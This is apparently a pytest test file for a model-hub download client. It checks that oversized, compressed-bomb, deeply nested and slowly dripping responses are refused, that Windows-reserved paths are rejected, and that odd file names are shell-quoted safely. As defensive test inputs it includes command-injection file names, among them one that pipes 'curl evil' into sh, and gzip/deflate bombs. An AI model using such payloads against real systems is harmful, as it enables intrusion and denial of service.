"""A hub that answers without end, too slowly, or packed: it is read within limits of bytes, values and time."""

from __future__ import annotations

import gzip
import json
import shlex
import socketserver
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

import pytest
from spec_hub import client, deadline
from spec_hub.client import connect_hub
from spec_hub.command import SHOWN, next_steps
from spec_hub.fetch import fetch_model
from spec_hub.hub_name import parse_name
from spec_hub.listing import BYTES_MAX
from spec_hub.remote_file import HubError, RemoteFile, check_files, is_safe

from tests.support.local_hub import HubFile, LocalHub

NAME = parse_name("o/n")
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
Send = Callable[[bytes], None]


@contextmanager
def answering(monkeypatch, respond: Callable[[bytes, Send], None]) -> Iterator[None]:
    """A hub that sends what ``respond`` gives for the head of a request."""

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            head = b""
            while (line := self.rfile.readline()).strip():
                head += line
            with suppress(OSError):
                respond(head, self.request.sendall)

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
        monkeypatch.setattr("huggingface_hub.constants.ENDPOINT", f"http://127.0.0.1:{server.server_address[1]}")
        try:
            yield
        finally:
            server.shutdown()


def endless(head: bytes, send: Send) -> None:
    send(HEAD + b"\r\n" + b'{"siblings": ["')
    while True:
        send(b"a" * (1 << 20))


def pack_listing(encoding: bytes, data: bytes) -> Callable[[bytes, Send], None]:
    return lambda head, send: send(HEAD + b"Content-Encoding: " + encoding + b"\r\n\r\n" + data)


def listing(data: bytes) -> Callable[[bytes, Send], None]:
    return lambda head, send: send(HEAD + b"\r\n" + data)


ZEROS = bytes(200 << 20)
LARGE = {
    "endless": (endless, f"more than {BYTES_MAX >> 20} MiB"),
    "gzip": (pack_listing(b"gzip", gzip.compress(ZEROS, 9)), f"more than {BYTES_MAX >> 20} MiB"),
    "deflate": (pack_listing(b"deflate", zlib.compress(ZEROS, 9)), f"more than {BYTES_MAX >> 20} MiB"),
    "another packing": (pack_listing(b"br", b"abc"), "is packed as 'br'"),
    "lists": (listing(b'{"siblings": [' + b"[]," * 5_000_000 + b"1]}"), "more than 300000 objects and lists"),
    "objects": (listing(b'{"x": [' + b"{}," * 5_000_000 + b"1]}"), "more than 300000 objects and lists"),
    "numbers": (listing(b'{"x": [' + b"1," * 9_000_000 + b"1]}"), "more than 2000000 values"),
    "texts": (listing(b'{"x": [' + b'"a",' * 7_000_000 + b"1]}"), "more than 1500000 texts"),
}


@pytest.mark.parametrize("kind", LARGE)
def test_a_listing_that_is_too_large_is_refused(cache, monkeypatch, kind):
    respond, words = LARGE[kind]
    with answering(monkeypatch, respond), pytest.raises(HubError, match=words):
        connect_hub().list_files(NAME)


@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
def test_a_packed_listing_is_read(cache, monkeypatch, encoding):
    data = json.dumps({"sha": "a" * 40, "siblings": []}).encode()
    pack = {"gzip": gzip.compress, "deflate": zlib.compress}[encoding]
    with answering(monkeypatch, pack_listing(encoding.encode(), pack(data))):
        assert connect_hub().list_files(NAME).commit == "a" * 40


@pytest.mark.parametrize("data", [b"[]", b"7", b'{"siblings": 7}', b'{"siblings": [7]}', b'{"siblings": [{}]}', b"{"])
def test_a_listing_of_another_form_is_refused(cache, monkeypatch, data):
    with answering(monkeypatch, listing(data)), pytest.raises(HubError):
        connect_hub().list_files(NAME)


def drip(parts: bytes) -> Callable[[bytes, Send], None]:
    """Send bytes one after the other, for ever."""

    def respond(head: bytes, send: Send) -> None:
        send(parts)
        while True:
            send(b"a")
            time.sleep(0.05)

    return respond


@pytest.mark.parametrize("begun", [b"", b"HTTP/1.1 200 OK\r\nX-Long: ", HEAD + b'\r\n{"x": "'])
def test_a_listing_that_drips_is_given_up(cache, monkeypatch, begun):
    """Also where its head does."""
    monkeypatch.setattr(client, "LISTING_SECONDS", 0.5)
    with answering(monkeypatch, drip(begun)), pytest.raises(HubError, match=r"more than 0.5 seconds|broke"):
        connect_hub().list_files(NAME)


def file_that_drips(begun: bytes) -> Callable[[bytes, Send], None]:
    sibling = {"rfilename": "x.gguf", "size": 10**6, "blobId": "b" * 40}
    listed = json.dumps({"sha": "a" * 40, "siblings": [sibling]}).encode()
    return lambda head, send: (listing(listed) if b"/api/" in head else drip(begun))(head, send)


@pytest.mark.parametrize("begun", [b"HTTP/1.1 200 OK\r\nX-Long: ", HEAD + b"\r\n"])
def test_a_file_that_drips_is_given_up(cache, monkeypatch, begun):
    monkeypatch.setattr(client, "OPENING_SECONDS", 0.5)
    monkeypatch.setattr(deadline, "SLOW_SECONDS", 0.5)
    late = pytest.raises(HubError, match=r"more than 0.5 seconds|arrives too slowly")
    with answering(monkeypatch, file_that_drips(begun)), late:
        fetch_model(NAME, connect_hub())


def test_a_file_that_drips_and_breaks_is_given_up(cache, monkeypatch):
    """Every break brings some bytes: they do not count as a new beginning."""
    monkeypatch.setattr(deadline, "SLOW_SECONDS", 0.5)
    sibling = {"rfilename": "x.gguf", "size": 10**6, "blobId": "b" * 40}
    listed = json.dumps({"sha": "a" * 40, "siblings": [sibling]}).encode()

    def respond(head: bytes, send: Send) -> None:
        if b"/api/" in head:
            listing(listed)(head, send)
        else:
            time.sleep(0.05)
            start = int(head.partition(b"bytes=")[2].partition(b"-")[0] or 0)
            status = HEAD.replace(b"200 OK", b"206 Partial Content") if start else HEAD
            send(status + b"Content-Range: bytes %d-999999/1000000\r\nContent-Length: 999999\r\n\r\na" % start)

    with answering(monkeypatch, respond), pytest.raises(HubError, match="arrives too slowly"):
        fetch_model(NAME, connect_hub())


def test_a_file_that_comes_fast_enough_is_not_given_up(hub: LocalHub, monkeypatch):
    monkeypatch.setattr(deadline, "SLOW_SECONDS", 0.0)
    monkeypatch.setattr(deadline, "SLOW_BYTES", 1)
    data = b"x" * 200_000
    hub.add("o/n", **{"x.gguf": HubFile(data)})

    assert fetch_model(NAME, connect_hub()).read_bytes() == data


WINDOWS = [
    "C:x.gguf", "D:/x.gguf", "a/C:x.gguf", "a.gguf:stream", "a.gguf::$DATA", "nul", "NUL.gguf", "a/con.json",
    "com1.gguf", "LPT9", "x.gguf.", "x.gguf ", "a./x.gguf", "aux .gguf", "conin$",
]  # fmt: skip


@pytest.mark.parametrize("path", WINDOWS)
def test_a_path_that_windows_reads_as_another_is_refused(path):
    assert not is_safe(path)
    with pytest.raises(HubError, match="a path inside the repository is needed"):
        check_files([RemoteFile(path, 1, "a" * 40)], "o/n")


@pytest.mark.parametrize("path", ["x.gguf", "a/b.gguf", "console.json", "nullable.gguf", "a b.gguf", "com.gguf", "é"])
def test_a_path_that_is_plain_everywhere_is_not(path):
    assert is_safe(path)


SHELL = [
    "mtp-$(touch X);curl evil|sh #.gguf",
    "mtp-a b.gguf",
    "mtp-`id`.gguf",
    "mtp-'.gguf",
    'mtp-".gguf',
    "mtp-&.gguf",
]


@pytest.mark.parametrize("path", SHELL)
def test_a_hint_is_one_command_of_its_words(path):
    [_, line] = next_steps(NAME, "x.gguf", [path])

    assert shlex.split(line.partition(": ")[2]) == ["spec", "get", f"o/n:{path}"]


def test_many_drafters_are_a_few_lines():
    lines = next_steps(NAME, "x.gguf", [f"mtp-{number}.gguf" for number in range(50_000)])

    assert len(lines) == 1 + SHOWN + 1 and lines[-1] == f"and {50_000 - SHOWN} other drafters"
